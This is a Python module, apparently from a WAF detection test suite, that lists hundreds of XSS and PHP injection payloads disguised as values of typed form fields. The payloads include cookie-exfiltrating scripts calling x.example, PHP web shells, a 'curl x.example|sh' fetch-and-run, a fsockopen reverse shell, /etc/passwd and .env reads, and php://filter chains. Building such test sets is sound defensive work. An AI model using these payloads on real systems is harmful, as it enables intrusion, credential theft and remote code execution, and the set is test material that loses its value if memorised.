"""Blind set "hundredthirtysixth": cross-site scripting and PHP injection carried inside typed fields, with
benign requests that carry realistic values of the same fields and the same words typed innocently.

The angle: injection inside typed fields. Real applications check a typed value loosely (an e-mail address, a
phone number, a date or time, a price or quantity, an id or UUID, a sort key or column, a page number or limit, a
language, locale or currency code, a time zone, a file name, a postcode, a colour, a JSON key, a version string, a
User-Agent, a hostname or URL) and then build a page, an attribute, an inline script, a style, a client-side
template, a PHP expression, an include path, a config file or an upload from it. Each payload is written the way
it must look to pass such a field's loose check or to fit its position in the back end: an e-mail whose local part
or display name carries the markup, a date followed by a tag, a colour that closes the style attribute, a price
evaluated by eval(), a language code that becomes an include wrapper, a time zone written into .user.ini, a cookie
of serialized preferences, an upload name with a PHP extension. The comment above each group of a list names the
field type and the target it reaches (browser, client template engine, PHP interpreter, PHP include, php-cgi).

Families (one `sub` per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
    html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file,
    allow_url_include, php-cgi -d), php-superglobals, php-file-upload (.php/.phtml/.phar names),
    php-high-risk-function-names

Placements: every payload is sent twice, both times under the realistic name of the field it belongs to (email,
phone, since, price, qty, uuid, sort, order_by, limit, lang, currency, timezone, filename, postcode, color,
version, website, avatar_url, callback, cart, prefs, ...). Once to our real routes (query of /api/users, the admin
search form with its csrf_token, JSON of /api/users, an XML body, a multipart field, a cookie for the fields a
site keeps in cookies, the URL path for ids, the User-Agent / Referer / X-Forwarded-For header for those fields,
a JSON key or a parameter name for key-typed fields, a multipart filename on /admin/users/import for upload
names, the raw query string for php-cgi arguments), once the way a WAF regression suite sends it (placements
prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) as a query string, form body, JSON body, XML body, multipart field, cookie, header, path
segment, JSON key, parameter name or multipart filename. Uploads carry a small neutral body (a GIF header), so the
file name is what is measured.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
The serialized PHP objects are built here with their lengths computed (gadget chains as remembered). Measured
once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
from collections.abc import Generator, Iterator
from typing import Any

from .blind_placements import RS_PATHS, BlindSet, Put, Record, request
from .family_gen import _get, _json
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredthirtysixth"

# An entry is (field, payload): the field the payload is typed into. Special fields: a header name (User-Agent,
# Referer, X-Forwarded-For), "upload" (a multipart filename), "@key" (a JSON key / parameter name), "@param" (a
# raw `name=value` parameter, e.g. mass assignment), "@argv" (a raw query string handed to php-cgi as argv).
Entry = tuple[str, str]

# ================================================================================================================
# XSS (target: the browser of whoever views the page the field is echoed into, unless a list says otherwise)
# ================================================================================================================
XSS_LIBINJECTION: list[Entry] = [
    # e-mail (local part, display name) echoed unescaped into the admin user list
    ("email", '"><img src=x onerror=alert(document.domain)>"@example.com'),
    ("reply_to", "Alice <alice@example.com><svg onload=alert(1)>"),
    ("contact_email", "jo@example.com'><body onload=alert(document.cookie)>"),
    # phone number rendered into a table cell / tel: link
    ("phone", '+1 555 0100"><img src=1 onerror=confirm(1)>'),
    ("mobile", "07700900123<details open ontoggle=alert(1)>"),
    # date / time echoed back into the filter bar
    ("since", "2024-01-01T00:00:00Z'><iframe onload=alert(1)>"),
    ("date", "2024-05-01<video><source onerror=alert(1)></video>"),
    # price / quantity in the cart page
    ("qty", "1<input autofocus onfocus=alert(1)>"),
    ("price", "9.99</td><img src=x onerror=alert(1)>"),
    # id / uuid in the breadcrumb
    ("user_id", "42<marquee onstart=alert(1)>"),
    ("uuid", '3fa85f64-5717-4562-b3fc-2c963f66afa6"><input autofocus onfocus=alert(1)>'),
    # sort key, page number, language, currency echoed in the listing's "sorted by" note
    ("sort", "name</th><img src=x onerror=alert(1)>"),
    ("page", "2'><audio src onerror=alert(1)>"),
    ("lang", 'en"><body onpageshow=alert(1)>'),
    ("currency", "EUR<select autofocus onfocus=alert(1)>"),
    ("postcode", "SW1A 1AA<textarea autofocus onfocus=alert(1)>"),
    ("color", '#ff0000"><svg/onload=alert`1`>'),
    ("version", "2.1.0<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("timezone", 'Europe/Berlin"><img src onerror=alert(1)>'),
    ("host", "shop.example.com<body onfocus=alert(1) autofocus>"),
    # JSON key / parameter name echoed as a label in the settings table
    ("@key", "<img src=x onerror=alert(document.domain)>"),
]
XSS_SCRIPT_TAG: list[Entry] = [
    # e-mail local part / display name rendered as HTML in the admin list
    ("email", '"<script>alert(document.domain)</script>"@example.com'),
    ("email", "bob+<script>fetch('//x.example/?c='+document.cookie)</script>@mail.example"),
    ("reply_to", "support@example.com</textarea><script>alert(1)</script>"),
    # phone / date / time shown in a confirmation page
    ("phone", "+44 20 7946 0958<script src=//xss.example/p.js></script>"),
    ("date", "2024-02-29</title><script>alert(1)</script>"),
    ("until", "2024-12-31T23:59<script>new Image().src='//x.example/?'+document.cookie</script>"),
    # price / quantity / order id in the basket and order history
    ("price", "19.99<script>alert(String.fromCharCode(88,83,83))</script>"),
    ("qty", "3<ScRiPt>alert(1)</sCrIpT>"),
    ("order_id", "ORD-1001<script type=module>import('//x.example/m.js')</script>"),
    ("uuid", "0f8fad5b-d9cb-469f-a165-70867728950e<script>alert(1)</script>"),
    # sort key written into an inline <script> config block: close it and open a new one
    ("sort", "created_at</script><script>alert(1)</script>"),
    ("lang", "de<script/src=data:,alert(1)></script>"),
    ("currency", "USD<script>document.location='//x.example/'+document.cookie</script>"),
    ("filename", "report<script>alert(1)</script>.pdf"),
    ("postcode", '10115<script type="text/javascript">alert(1)</script>'),
    ("color", "#000</style><script>alert(1)</script>"),
    ("version", "1.0.0<script>eval(location.hash.slice(1))</script>"),
    # User-Agent / Referer stored and shown in the admin's session and audit views
    ("User-Agent", "Mozilla/5.0 <script>alert(document.cookie)</script>"),
    ("Referer", "https://www.example.com/<script>alert(1)</script>"),
    ("team_id", "T0123ABCD<script>alert(1)</script>"),
    ("@key", "settings[<script>alert(1)</script>]"),
]
XSS_EVENT_HANDLER: list[Entry] = [
    # value echoed inside a quoted attribute (value="..."): close the quote, add a handler
    ("email", 'a@b.co" autofocus onfocus="alert(1)'),
    ("phone", "555-0199' onmouseover='alert(1)"),
    ("date", '2024-03-03" onpointerenter="alert(1)'),
    ("start_time", "09:30\" onclick=\"fetch('//x.example/'+document.cookie)"),
    ("price", '4.50" style="position:fixed;inset:0" onmousemove="alert(1)'),
    # unquoted attribute values (value=1): a space is enough
    ("qty", "1 onfocusin=alert(1) autofocus"),
    ("limit", "50 onbeforeinput=alert(1) contenteditable"),
    ("id", '7" onanimationstart="alert(1)" style="animation-name:x'),
    ("sort", '-price" onauxclick="alert(1)'),
    ("lang", "fr\" onload=\"alert(1)"),
    ("currency", "GBP' onerror='alert(1)"),
    ("postcode", '75001" ontransitionend="alert(1)" style="transition:1s'),
    ("color", '#fff" onwheel="alert(1)'),
    ("filename", 'invoice.pdf" onmouseenter="alert(1)'),
    ("website", 'https://example.com" onfocus=alert(1) autofocus x="'),
    ("timezone", 'UTC" oncopy="alert(1)'),
    ("version", '3.2" onbeforetoggle="alert(1)" popover="'),
    ("uuid", "c9bf9e57-1685-4c89-bafb-ff5af830be8a' onpaste='alert(1)"),
    ("zip", '90210" onblur="alert(1)" autofocus="'),
    ("page", '1" onkeydown="alert(1)" accesskey="x'),
    ("@key", 'field" onmouseover="alert(1)'),
]
XSS_ATTRIBUTE: list[Entry] = [
    # URL fields (website, avatar, return_to) put into markup: elements whose src/href/formaction run script
    ("avatar_url", '"><iframe src="javascript:alert(document.domain)"></iframe>'),
    ("website", '"><a href="javascript:alert(1)">profile</a>'),
    ("return_to", '"><form><button formaction="javascript:alert(1)">Continue</button></form>'),
    ("email", 'x@y.z"><input type=submit formaction=javascript:alert(1) value=go>'),
    ("callback_url", '"><object data="javascript:alert(1)"></object>'),
    ("logo_url", '"><embed src="javascript:alert(1)">'),
    ("homepage", '"><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    # the value lands in src= / href= itself
    ("avatar_url", "x\" onerror=\"alert(1)"),
    ("redirect", "javascript:alert(1)\" id=\"x"),
    ("image", "x' src='1' onerror='alert(1)"),
    # colour / style fields: a style attribute with url() pointing at script or an external sheet
    ("color", "red\" style=\"background-image:url('javascript:alert(1)')"),
    ("theme_color", "#222\"><div style=\"background:url(javascript:alert(1))\">x</div>"),
    ("font", "Arial\"><p style=\"behavior:url(//x.example/x.htc)\">"),
    # date / number fields breaking into tags with src/href/action/poster/background
    ("date", "2024-05-01\"><video poster=javascript:alert(1)></video>"),
    ("qty", "1\"><form action=javascript:alert(1)><input type=submit>"),
    ("page", '2"><isindex type=image src=1 onerror=alert(1)>'),
    ("lang", 'en"><table background="javascript:alert(1)">'),
    ("postcode", '12345"><input type="image" src="javascript:alert(1)">'),
    ("version", '1.0"><a href="data:text/html,<script>alert(1)</script>">docs</a>'),
    ("host", 'cdn.example.com"><link rel=import href="//x.example/x.html">'),
]
XSS_JS_URI: list[Entry] = [
    # URL fields stored and rendered as <a href>, window.location or a redirect target
    ("website", "javascript:alert(document.cookie)"),
    ("homepage", "JaVaScRiPt:alert(1)"),
    ("return_to", "javascript://example.com/%0aalert(document.domain)"),
    ("redirect_uri", "javascript:/*https://app.example.com*/alert(1)"),
    ("next", "javascript:fetch('//x.example/?'+document.cookie)"),
    ("callback_url", "  javascript:alert(1)"),
    ("avatar_url", "java\tscript:alert(1)"),
    ("link", "java\nscript:alert(1)"),
    ("url", "javascript:void(location='//x.example/'+document.cookie)"),
    ("url", "javascript:eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))"),
    ("continue", "javascript:alert`1`"),
    ("profile_url", "javascript:top['al'+'ert'](1)"),
    ("website", "vbscript:msgbox(\"XSS\")"),
    ("website", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("avatar_url", "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>"),
    ("redirect", "javascript:window.opener.location='//x.example/phish'"),
    # e-mail field rendered as <a href="mailto:..."> by a loose template: replace the scheme
    ("email", "javascript:alert(1)//@example.com"),
    ("Referer", "javascript:alert(document.domain)"),
    ("docs_url", "javascript:import('//x.example/x.js')"),
    ("return_url", "javascript:document.body.innerHTML='<h1>Session expired</h1><form action=//x.example>'"),
]
XSS_HTML_INJECTION: list[Entry] = [
    # display fields (e-mail, phone, names of things) rendered as HTML: injected frames, objects, forms, base, meta
    ("email", 'a@example.com"><iframe src=//x.example/login width=100% height=900 frameborder=0></iframe>'),
    ("phone", "+1 555 0100<object data=//x.example/x.swf type=application/x-shockwave-flash></object>"),
    ("date", "2024-05-01<embed src=//x.example/x.svg type=image/svg+xml>"),
    ("price", "0.00<base href=//x.example/>"),
    ("qty", "1<meta http-equiv=refresh content=\"0;url=//x.example/phish\">"),
    ("currency", "EUR<link rel=stylesheet href=//x.example/steal.css>"),
    ("lang", "en<form action=//x.example/collect method=post><input name=password type=password>"),
    ("order_id", "ORD-7<iframe src=\"data:text/html,<script>alert(parent.document.cookie)</script>\">"),
    ("uuid", "<frameset><frame src=//x.example/></frameset>"),
    ("sort", "name<base target=_top href=javascript:alert(1)//>"),
    ("postcode", "SW1A 2AA<meta http-equiv=\"Set-Cookie\" content=\"session=attacker\">"),
    ("color", "#fff\"><link rel=preload as=script href=//x.example/x.js>"),
    ("version", "2.0<object type=text/html data=//x.example/frame.html></object>"),
    ("filename", "cv.pdf<iframe src=//x.example/cv.html style=border:0></iframe>"),
    ("team_id", "T0001<form id=f action=//x.example/><button form=f>Sign in again</button></form>"),
    ("timezone", "UTC<applet code=Exploit.class codebase=//x.example/></applet>"),
    ("reply_to", "x@example.com<portal src=//x.example/></portal>"),
    ("host", "example.com<meta name=referrer content=unsafe-url><img src=//x.example/leak>"),
    ("page", "1<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("website", "https://example.com/\"><embed src=\"//x.example/x.html\"></embed>"),
]
XSS_SVG_MATHML: list[Entry] = [
    # avatar / logo fields accepting inline SVG, and text fields echoed as HTML (SVG and MathML parsing)
    ("avatar", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
    ("logo_svg", "<svg><script>alert(document.domain)</script></svg>"),
    ("email", "x@y.co<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("phone", "+1 555 0100<svg><set attributeName=onmouseover to=alert(1)></set></svg>"),
    ("date", "2024-05-01<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>open</text></a></svg>"),
    ("price", "5.00<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x"),
    ("qty", "2<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>"),
    ("lang", "en<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("currency", "USD<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject>"),
    ("uuid", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
             "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("sort", "name<svg><discard onbegin=alert(1)>"),
    ("postcode", "75001<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">"
                 "alert(1)</handler></svg>"),
    ("color", "#000\"><svg><style>@import'//x.example/x.css'</style></svg>"),
    ("filename", "chart.svg<svg/onload=location='//x.example/?'+document.cookie>"),
    ("version", "1.2<math href=javascript:alert(1)>CLICK</math>"),
    ("timezone", "UTC<svg><title><a id=\"</title><img src=x onerror=alert(1)>\">"),
    ("host", "example.com<svg><image href=1 onerror=alert(1)></image></svg>"),
    ("icon", "<svg><set attributeName=innerHTML to=\"&lt;img src=x onerror=alert(1)&gt;\"/></svg>"),
    ("page", "1<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>"),
    ("website", "https://example.com/<svg><animatetransform onbegin=alert(1)>"),
]
XSS_CSS: list[Entry] = [
    # colour / font / size fields placed into style="" or a <style> block (browser CSS engine, old IE and Gecko)
    ("color", "red;width:expression(alert(1))"),
    ("theme_color", "#fff;background:url(javascript:alert(1))"),
    ("color", "expression(alert(document.cookie))"),
    ("bg_color", "#000;-moz-binding:url(//x.example/xss.xml#xss)"),
    ("color", "blue;behavior:url(//x.example/xss.htc)"),
    ("accent", "#abc}body{background:url(//x.example/?leak)}"),
    ("font", "Arial;}</style><style>@import url(//x.example/x.css);"),
    ("font_size", "12px;x:expr/**/ession(alert(1))"),
    ("color", "rgb(0,0,0);background-image:url(\"javascript:alert('xss')\")"),
    ("color", "#f00;list-style-image:url(javascript:alert(1))"),
    ("text_color", "red\" style=\"xss:expression(alert(1))"),
    ("width", "100px;background:url(vbscript:msgbox(1))"),
    # CSS exfiltration through attribute selectors (steals the CSRF token one character at a time)
    ("accent", "#fff}input[name=csrf_token][value^=a]{background:url(//x.example/?t=a)}"),
    ("color", "#000;}@import 'data:text/css;base64,aW5wdXRbbmFtZT1jc3JmX3Rva2VuXVt2YWx1ZV49YV17YmFja2dyb3VuZDp1"
              "cmwoLy94LmV4YW1wbGUvYSl9';{"),
    ("theme_color", "red;}*{x:expression(eval(String.fromCharCode(97,108,101,114,116,40,49,41)))}"),
    ("size", "10px;background:url(javas\\63ript:alert(1))"),
    ("color", "\\65 xpression(alert(1))"),
    ("position", "absolute;top:0;left:0;width:100%;height:100%;behavior:url(#default#time2)"),
    ("color", "red;-o-link:'javascript:alert(1)';-o-link-source:current"),
    ("custom_css", "body{background:url(\"javascript:alert(document.domain)\")}"),
]
XSS_DOM_SINK: list[Entry] = [
    # values written into an inline script string or a template literal (JS engine of the browser)
    ("sort", "name';alert(document.domain);//"),
    ("lang", "en\";alert(1);//"),
    ("currency", "EUR'-alert(1)-'"),
    ("page", "1;alert(1)//"),
    ("limit", "10,alert(1)"),
    ("date", "2024-05-01`;alert(1);`"),
    ("since", "${alert(document.cookie)}"),
    ("timezone", "UTC`+alert(1)+`"),
    ("uuid", "x\\';alert(1);//"),
    ("email", "a@b.c</script><script>alert(1)</script>"),
    # fragments / hash / JSONP callback: the DOM sinks (innerHTML, eval, document.write, setTimeout)
    ("callback", "alert(document.domain)//"),
    ("jsonp", "eval(atob('YWxlcnQoMSk='))"),
    ("callback", "window['al'+'ert'](1);x"),
    ("next", "#<img src=x onerror=alert(1)>"),
    ("return_to", "/#');document.write('<script src=//x.example/x.js><\\/script>');//"),
    ("qty", "1}};setTimeout('alert(1)');{{"),
    ("version", "1.0\"});alert(1);//"),
    ("postcode", "10115'+document.body.innerHTML='<img src=x onerror=alert(1)>'+'"),
    ("color", "#fff';eval(location.hash.substr(1));'"),
    ("order_id", "\\u0027;alert(1);//"),
]
XSS_IE_FILTER: list[Entry] = [
    # the legacy-browser vectors old IE XSS filters and signature lists were built around
    ("email", "a@b.c<img dynsrc=\"javascript:alert(1)\">"),
    ("phone", "555-0100<img lowsrc=\"javascript:alert(1)\">"),
    ("date", "2024-05-01<bgsound src=\"javascript:alert(1)\">"),
    ("price", "1.00<br size=\"&{alert(1)}\">"),
    ("qty", "2<layer src=\"//x.example/x.html\"></layer>"),
    ("lang", "en<xml id=i><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
             "<span datasrc=#i datafld=c dataformatas=html></span>"),
    ("currency", "USD<?import namespace=t implementation=#default#time2><t:set attributeName=innerHTML "
                 "to=\"&lt;img src=x onerror=alert(1)&gt;\">"),
    ("sort", "name<comment><img src=\"</comment><img src=x onerror=alert(1)//\">"),
    ("postcode", "SW1A<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>"),
    ("color", "#fff<div style=\"width:expression(alert(1));\">"),
    ("filename", "a.doc<object type=\"text/x-scriptlet\" data=\"//x.example/x.sct\"></object>"),
    ("version", "1.0<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">alert(1)</xss:script>"),
    ("timezone", "UTC<script language=vbscript>MsgBox \"XSS\"</script>"),
    ("uuid", "<a href=\"vbscript:msgbox(document.cookie)\">x</a>"),
    ("page", "1<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("host", "example.com<frameset onload=alert(1)>"),
    ("website", "https://example.com/<img src=\"jav&#x09;ascript:alert(1)\">"),
    ("zip", "12345<base href=\"javascript:alert(1);//\">"),
    ("start_time", "09:00<div style=\"background-image: url(&#1;javascript:alert(1))\">"),
    ("User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0)<img src=`javascript:alert(1)`>"),
]
XSS_ENCODED: list[Entry] = [
    # fields decoded a second time by the back end or the template (URL, HTML entity, JS and UTF-7 encodings)
    ("email", "%3Cscript%3Ealert(1)%3C/script%3E@example.com"),
    ("date", "2024-05-01%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("website", "https://example.com/%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("phone", "+1 555 0100&lt;img src=x onerror=alert(1)&gt;"),
    ("price", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("qty", "&#x3C;svg onload=alert(1)&#x3E;"),
    ("homepage", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("redirect", "javascript&colon;alert&lpar;1&rpar;"),
    ("avatar_url", "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
                   "&#0000116&#0000058alert(1)"),
    ("lang", "en\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("currency", "EUR\\x3cimg src=x onerror=alert(1)\\x3e"),
    ("sort", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("postcode", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("color", "#fff&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("filename", "%3Csvg%2Fonload%3Dalert(document.domain)%3E.png"),
    ("uuid", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("version", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("timezone", "UTC<a href=\"&#x6A;avascript:alert(1)\">tz</a>"),
    ("callback_url", "data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("page", "1%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B"),
]
XSS_CLIENT_TEMPLATE: list[Entry] = [
    # values rendered inside an AngularJS (1.x) ng-app or a Vue-mounted element: the client template engine
    ("email", "{{constructor.constructor('alert(1)')()}}@example.com"),
    ("phone", "{{$on.constructor('alert(document.domain)')()}}"),
    ("date", "2024-05-01{{$eval.constructor('alert(1)')()}}"),
    ("price", "{{[].pop.constructor('alert(1)')()}}"),
    ("qty", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"),
    ("lang", "en{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
    ("currency", "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
                 "[\"a\",\"alert(1)\"].sort(toString.constructor)}}"),
    ("sort", "name\" ng-focus=\"$event.view.alert(1)\" autofocus tabindex=\"0"),
    ("uuid", "<div ng-app ng-csp><input autofocus ng-focus=$event.composedPath()|orderBy:'[].constructor.from"
             "([1],alert)'>"),
    # Vue 2 / Vue 3 in-DOM templates
    ("postcode", "{{_c.constructor('alert(1)')()}}"),
    ("color", "{{_openBlock.constructor('alert(1)')()}}"),
    ("version", "{{$el.ownerDocument.defaultView.alert(1)}}"),
    ("timezone", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("filename", "cv.pdf<x @click=\"_c.constructor('alert(1)')()\">click</x>"),
    ("page", "{{$emit.constructor`alert(1)`()}}"),
    ("team_id", "<img v-bind:src=x v-on:error=\"$event.view.alert(1)\">"),
    ("host", "example.com{{constructor.constructor('fetch(\"//x.example/?\"+document.cookie)')()}}"),
    # other client template syntaxes (Polymer/Alpine/Knockout bindings)
    ("website", "https://example.com/<div x-data x-init=\"alert(document.domain)\"></div>"),
    ("reply_to", "x@example.com<p data-bind=\"html: '<img src=x onerror=alert(1)>'\"></p>"),
    ("start_time", "[[constructor.constructor('alert(1)')()]]"),
]

# ================================================================================================================
# PHP (target: the PHP interpreter, its include machinery, unserialize(), php-cgi or the upload directory)
# ================================================================================================================
PHP_OPEN_TAG: list[Entry] = [
    # User-Agent / Referer / X-Forwarded-For written to access.log, later included through an LFI (log poisoning)
    ("User-Agent", "<?php system($_GET['cmd']); ?>"),
    ("User-Agent", "Mozilla/5.0 <?=`$_GET[c]`?>"),
    ("Referer", "http://example.com/<?php passthru($_REQUEST['x']);?>"),
    ("X-Forwarded-For", "127.0.0.1<?php system($_GET['c']);?>"),
    # e-mail / language / time zone stored in the PHP session file (sess_<id>), included later
    ("email", "\"<?php eval($_POST[1]);?>\"@example.com"),
    ("email", "<?=system('id')?>@mail.example"),
    ("lang", "en<?php include $_GET['f'];?>"),
    # settings written by an installer into a cached config.php ($tz = '...';): close the string and the tag
    ("timezone", "UTC';?><?php system('id');//"),
    ("site_name", "Shop';?><?php file_put_contents('x.php','<?php system($_GET[c]);?>');?>"),
    ("locale", "de_DE';?><?php var_dump(scandir('/'));?>"),
    # typed fields saved into .php templates / language packs / CSV later included
    ("date", "2024-05-01<?php phpinfo();?>"),
    ("currency", "EUR<? echo shell_exec($_GET['c']); ?>"),
    ("phone", "+1-555-0100<?php echo file_get_contents('/etc/passwd');?>"),
    ("postcode", "<?php @eval(base64_decode($_POST['z']));?>"),
    ("filename", "notes<?php system($_GET[0]);?>.txt"),
    ("version", "1.0<?php exit(shell_exec('id'));?>"),
    ("price", "9.99<?PHP SYSTEM('id');?>"),
    ("qty", "<?php\nsystem('uname -a');\n?>"),
    ("color", "#fff<script language=\"php\">system('id');</script>"),
    ("uuid", "<?= `id` ?>"),
    ("user_id", "1<?php echo `whoami`;?>"),
    ("sort", "name<?php header('X-P: '.php_uname());?>"),
    ("host", "example.com<?php system('curl -s x.example|sh');?>"),
    ("website", "https://example.com/?<?php system($_GET['c']);?>"),
    ("zip", "<?php $s=fsockopen('10.0.0.5',4444);exec('/bin/sh -i <&3 >&3 2>&3');?>"),
    ("start_time", "10:00<?php sleep(10);?>"),
    ("api_version", "<?php print_r(get_defined_vars());?>"),
]
PHP_FUNCTION_CALL: list[Entry] = [
    # price / quantity / discount evaluated by eval('return '.$v.';') to allow "2*9.99" (PHP interpreter)
    ("price", "1;system('id')"),
    ("price", "9.99+system('cat /etc/passwd')"),
    ("qty", "1*exec('id > /tmp/o')"),
    ("amount", "0);passthru('id');//"),
    ("discount", "10/strlen(shell_exec('uname -a'))"),
    ("total", "1;echo `id`;"),
    ("weight", "2.5;$p=popen('id','r');echo fread($p,4096);"),
    ("shipping", "1;proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);"),
    ("formula", "assert('system(\"id\")')"),
    ("formula", "eval('system(\"id\");')"),
    # values placed inside a quoted string in eval()/assert() ("'$v' == ..."): close the quote
    ("date", "2024-01-01' and system('id') and '"),
    ("email", "a@b.c'.system('id').'"),
    ("sort", "name'.passthru('ls -la').'"),
    ("lang", "en\".shell_exec('id').\""),
    ("currency", "USD');popen('id','r');//"),
    ("postcode", "12345';proc_open('id',[],$p);//"),
    ("timezone", "UTC'.exec('curl x.example/s|sh').'"),
    # sort key / column into usort($rows, create_function('$a,$b', 'return $a['.$sort.'] ...'))
    ("order_by", "name];}system('id');/*"),
    ("sort", "1;}eval($_POST['x']);//"),
    ("callback", "create_function('','system(\"id\");')"),
    ("order_by", "id'],$b['id']);}create_function('','}system(\"id\");//');//"),
    # search-and-replace fields handed to preg_replace() on PHP < 7 (the /e modifier evaluates the replacement)
    ("pattern", "/^(.*)$/e"),
    ("replace", "preg_replace('/.*/e','system(\"id\")','')"),
    ("pattern", "/x/e\0"),
    ("filter", "preg_replace('/a/e','passthru($_GET[c])','a')"),
    ("qty", "1;pcntl_exec('/bin/sh',['-c','id']);"),
    ("limit", "10;assert($_POST['a']);"),
]
PHP_VARIABLE_FUNCTIONS: list[Entry] = [
    # numeric / typed fields evaluated by eval(): function names built at run time (PHP interpreter)
    ("sort", "name';$f='sys'.'tem';$f('id');//"),
    ("price", "1;$a=$_GET['a'];$a($_GET['b']);"),
    ("qty", "1;('sys'.'tem')('id');"),
    ("amount", "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")('id')"),
    ("callback", "$_GET[0]($_GET[1])"),
    ("lang", "en';${'_GET'}['f'](${'_GET'}['c']);//"),
    ("date", "2024-01-01';$x=str_rot13('flfgrz');$x('id');//"),
    ("discount", "1;$f=base64_decode('c3lzdGVt');$f('id');"),
    ("formula", "[$_POST['f']][0]($_POST['c'])"),
    ("id", "1;$k='passthru';$$k='id';$k($$k);"),
    ("order_by", "(strrev('metsys'))('id')"),
    ("currency", "EUR';$c=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$c('id');//"),
    ("postcode", "1;${$_GET['a']}($_GET['b']);"),
    ("version", "1;call_user_func($_GET['f'],$_GET['a']);"),
    ("qty", "1;call_user_func_array('system',['id']);"),
    ("price", "1;array_map('passthru',['id']);"),
    ("uuid", "1;array_filter(['id'],'system');"),
    ("limit", "10;register_shutdown_function('system','id');"),
    ("page", "1;(new ReflectionFunction('system'))->invoke('id');"),
    ("callback", "implode('',['sy','stem'])('id')"),
    ("tz", "UTC';$_='sys'.'tem';$_($_REQUEST['c']);//"),
    ("amount", "1;$_=\"`{{{\"^\"?<>/\";${$_}[_](${$_}[__]);"),
    ("color", "#fff';$k=hex2bin('73797374656d');$k('id');//"),
    ("host", "x';$f=strtolower('SYSTEM');$f('whoami');//"),
    ("filter", "1;array_walk($_GET,'system');"),
    ("price", "1;(function($c){return $c;})('system')('id');"),
    ("sort", "1;$o=new ArrayObject(['id']);iterator_apply($o,'system',[$o->getIterator()->current()]);"),
]
PHP_WRAPPERS: list[Entry] = [
    # language / locale / theme / page names included as include($v.'.php') (PHP include machinery)
    ("lang", "php://filter/convert.base64-encode/resource=../config"),
    ("locale", "php://filter/read=string.rot13/resource=index"),
    ("lang", "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd"),
    ("theme", "php://input"),
    ("page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("lang", "data:text/plain,<?php phpinfo();?>"),
    ("template", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7"
                 "/resource=php://temp"),
    ("page", "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env"),
    ("lang", "pHp://FilTer/convert.base64-encode/resource=index"),
    ("skin", "php://filter/convert.quoted-printable-encode/resource=data://,<?php system('id');?>"),
    # file-name / attachment / image fields opened with file_get_contents(), getimagesize(), file_exists()
    ("filename", "phar:///var/www/uploads/avatars/7.jpg/x"),
    ("file", "phar://./uploads/invoice.pdf"),
    ("avatar_url", "phar://../storage/app/public/a.gif/test.txt"),
